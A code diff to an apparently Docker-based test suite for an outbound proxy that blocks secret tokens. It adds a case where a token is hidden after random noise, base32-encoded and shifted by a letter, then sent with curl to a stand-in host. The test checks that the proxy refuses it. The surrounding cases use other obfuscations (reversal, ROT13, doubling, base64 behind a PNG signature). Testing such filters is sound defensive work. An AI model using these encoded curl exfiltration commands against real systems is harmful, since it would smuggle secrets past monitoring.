@@ -347,7 +347,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     });
 
     await t.step(
-      "a token turned around for whoever receives it to turn back (`rev`, ROT13, both, base64 then `rev`), doubled, or in base64 behind a file's signature, in a body or a path's segment, is refused",
+      "a token turned around for whoever receives it to turn back (`rev`, ROT13, both, base64 then `rev`), doubled, in base64 behind a file's signature, or in base32 after kilobytes of noise and behind a letter, in a body or a path's segment, is refused",
       async () => {
         const turned = await sh(
           `printf %s '${token}' | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
@@ -364,7 +364,10 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "--data-binary @- https://plain.fake.test/v1/doubled; echo; cat /tmp/refused; echo; " +
             // Behind a PNG's signature, which shifts base64's groups of four.
             `{ printf iVBORw0KGgo; printf 'TOKEN=%s\\n' '${token}' | base64 -w0; } | ` +
-            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- https://plain.fake.test/v1/png; echo; cat /tmp/refused",
+            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- https://plain.fake.test/v1/png; echo; cat /tmp/refused; echo; " +
+            // Behind a letter, which shifts base32's groups of eight, after 6 KB of noise.
+            `{ head -c 6000 /dev/urandom; printf 'TOKEN=%s\\n' '${token}'; } | base32 -w0 | sed 's/^/A/' | ` +
+            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- https://plain.fake.test/v1/b32; echo; cat /tmp/refused",
         );
         assert.match(
           turned.stdout,
@@ -378,9 +381,10 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
         assert.match(turned.stdout, /\n403\n.*in the body, in base64, reversed/);
         assert.match(turned.stdout, /\n403\n.*in the body, each character doubled/);
         assert.match(turned.stdout, /\n403\n.*in the body, base64-encoded/);
+        assert.match(turned.stdout, /\n403\n.*in the body, base32-encoded/);
         assert.equal(
           turned.stdout.match(/^403$/gm)?.length,
-          7,
+          8,
           `each is refused: ${turned.stdout}`,
         );
         const reversed = [...token].reverse().join("");
@@ -393,6 +397,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "/v1/b64rev",
             "/v1/doubled",
             "/v1/png",
+            "/v1/b32",
           ]
         ) {
           assert.ok(!(await reached(path)), `nothing reached ${path}`);
